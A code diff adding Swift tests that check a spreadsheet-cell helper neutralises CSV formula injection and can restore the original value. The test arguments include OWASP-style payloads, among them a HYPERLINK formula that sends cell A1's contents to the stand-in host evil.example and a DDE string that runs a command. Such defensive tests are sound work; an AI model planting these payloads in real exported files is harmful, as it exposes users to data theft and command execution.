@@ -42,3 +42,26 @@ struct JSONValueTests {
         #expect(v.canonicalText == v.encoderText)
     }
 }
+
+@Suite("Spreadsheet cells")
+struct SpreadsheetCellTests {
+    /// OWASP's CSV-injection payloads come out as text, and the original value is recoverable.
+    @Test(arguments: ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+                      "\t=1+1", "\r=1+1"])
+    func formulasAreNeutralisedAndRecoverable(_ payload: String) {
+        let cell = SpreadsheetCell.neutralised(payload)
+        #expect(cell.hasPrefix("'"))
+        #expect(SpreadsheetCell.recovered(cell) == payload)
+    }
+
+    @Test func namesAndNumbersAreLeftAlone() {
+        for value in ["保定示例有限公司", "-12", "+3.5", "-0.25", "0.2", "", "a=b", "'quoted"] {
+            #expect(SpreadsheetCell.neutralised(value) == value, "\(value)")
+            #expect(SpreadsheetCell.recovered(value) == value, "\(value)")
+        }
+    }
+
+    @Test func csvLinesQuoteAndNeutralise() {
+        #expect(SpreadsheetCell.csvLine(["=1+1", "a,b", "say \"hi\"", "-5"]) == "'=1+1,\"a,b\",\"say \"\"hi\"\"\",-5")
+    }
+}
